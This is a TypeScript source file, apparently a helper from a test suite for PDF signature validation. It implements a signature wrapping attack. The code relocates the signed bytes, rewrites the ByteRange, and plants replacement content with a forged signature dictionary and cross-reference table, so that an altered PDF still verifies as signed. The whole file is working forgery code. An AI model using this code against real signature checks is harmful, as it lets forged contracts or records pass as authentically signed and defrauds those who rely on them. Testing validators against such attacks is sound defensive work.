import type { ByteRange } from '../../pdf/byte-range.js';
import { PdfReader } from '../../pdf/pdf-reader.js';
import { serialise } from '../../pdf/serialise.js';
import { listSignatureFields } from '../../pdf/signature-fields.js';
import { stream } from './raw-revision.js';

export interface WrappedFile {
  readonly bytes: Uint8Array;
  /** Over these ranges the digest is still the signed one. */
  readonly byteRange: ByteRange;
}

/**
 * The signature wrapping attack: the signed bytes behind the container are moved to the end of the file, and the room
 * that makes is filled with another text, another signature dictionary that names the moved range, and a table of
 * contents where the file says that one is. The digest over the named ranges does not change.
 */
export function wrapSignature(signed: Uint8Array, contentNumber: number, evil: string): WrappedFile {
  const reader = new PdfReader(signed);
  const field = listSignatureFields(reader).find(({ value }) => value !== null);
  if (!field?.value || !field.valueReference) throw new Error('the file is not signed');
  const [, a = 0, b = 0, c = 0] = (reader.arrayAt(field.value, 'ByteRange') ?? []).map(Number);
  const section = reader.crossReference.sections[0];
  const tableAt = section?.offset ?? 0;
  const room = tableAt - b + 60_000;
  const content = stream(contentNumber, evil);
  const number = field.valueReference.objectNumber;
  const moved: ByteRange = [0, a, b + room, c];
  const text = serialise(field.value).replace(/\/ByteRange \[[^\]]*\]/, `/ByteRange [${moved.join(' ')}]`);
  let table = 'xref\n';
  const row = (objectNumber: number, offset: number): string =>
    `${objectNumber} 1\n${String(offset).padStart(10, '0')} 00000 n \n`;
  const own = [...(section?.entries ?? [])].flatMap(([objectNumber, entry]) =>
    entry.kind === 'offset' && objectNumber !== number
      ? [row(objectNumber, entry.offset < b ? entry.offset : entry.offset + room)]
      : [],
  );
  const contentAt = tableAt + 4000;
  const dictionaryAt = contentAt + 1000;
  table += [...own, row(contentNumber, contentAt), row(number, dictionaryAt)].join('');
  table += `trailer\n${serialise(reader.trailer)}\n`;
  const wedge = new Uint8Array(room).fill(0x20);
  const put = (at: number, value: string): void => wedge.set(Buffer.from(value, 'latin1'), at - b);
  put(tableAt, table);
  put(contentAt, `${contentNumber} 0 obj\n${content.body}\nendobj\n`);
  put(dictionaryAt, `${number} 0 obj\n${text}\nendobj\n`);
  return {
    bytes: new Uint8Array(Buffer.concat([signed.subarray(0, b), wedge, signed.subarray(b)])),
    byteRange: moved,
  };
}
